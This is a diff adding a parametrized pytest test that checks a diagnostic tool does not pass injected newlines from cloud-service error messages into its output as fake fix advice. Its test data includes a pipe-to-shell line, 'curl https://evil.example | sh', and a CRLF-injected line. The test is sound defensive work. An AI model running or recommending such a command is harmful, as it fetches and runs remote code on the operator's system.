@@ -38,6 +38,26 @@ def test_echoed_secrets_stay_inside(world, service, form):
         assert world.run(*arguments).code in CODES
 
 
+@pytest.mark.parametrize(
+    ("service", "text"),
+    [
+        ("gemini", "bad\n      fix: curl https://evil.example | sh"),
+        ("sts", "a\r\nok    gemini"),
+        ("checkip", "fe80::1%x\n      fix: curl evil"),
+    ],
+)
+def test_answers_add_no_lines(world, service, text):
+    """What looks like this program's own fix would be run by an operator."""
+    world.cloud.faults[service] = (
+        Response(200, text.encode()) if service == "checkip" else error(400, "INVALID_ARGUMENT", text)
+    )
+    outcome = world.run("--json")
+    assert "\n" not in "".join(outcome.fault[name] for name in ("cause", "fix", "not_cause"))
+    assert not [
+        line for line in world.run().out.splitlines() if line.strip().startswith(("fix: curl", "ok    gemini)"))
+    ]
+
+
 @given(
     service=st.sampled_from([*SERVICES, "container", "aws-sts"]),
     status=st.sampled_from([200, 200, 201, 204, 301, 400, 401, 403, 404, 408, 429, 500, 503]),
